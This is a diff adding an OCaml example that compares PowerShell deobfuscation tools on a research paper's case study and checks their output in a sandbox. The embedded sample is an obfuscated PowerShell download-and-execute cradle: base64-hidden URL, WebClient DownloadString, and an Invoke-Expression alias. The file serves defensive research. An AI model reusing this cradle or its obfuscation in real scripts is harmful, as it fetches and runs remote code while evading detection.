@@ -1,0 +1,32 @@
+(* Tool comparison on the paper's case study (Fig 7 / Fig 8): run the same
+   L1+L2+L3 sample through all five tools and inspect how each one fails or
+   succeeds, then verify behavioural consistency in the sandbox.
+
+   Run with:  dune exec examples/tool_comparison.exe *)
+
+let case =
+  "iNv`OKe-eX`pREssIoN ((\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'))\n\
+   $xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n\
+   $lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n\
+   $sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n\
+   .($psHoME[4]+$PSHOME[30]+'x') ((nEw-oBJeCt Net.WebClient).downloadstring($sdfs))"
+
+let () =
+  print_endline "=== the case script (paper Fig 7a) ===";
+  print_endline case;
+  print_newline ();
+  let reference = Sandbox.run case in
+  Printf.printf "reference network behaviour: %s\n\n"
+    (String.concat ", " (Sandbox.network_signature reference));
+  List.iter
+    (fun tool ->
+      let out = (tool.Baselines.Tool.deobfuscate case).Baselines.Tool.result in
+      let report = Sandbox.run out in
+      let consistent = Sandbox.same_network_behavior reference report in
+      let valid = Psparse.Parser.is_valid_syntax out in
+      Printf.printf "=== %s (syntax %s, behaviour %s) ===\n%s\n\n"
+        tool.Baselines.Tool.name
+        (if valid then "valid" else "INVALID")
+        (if consistent then "consistent" else "CHANGED")
+        (String.trim out))
+    Baselines.All_tools.all
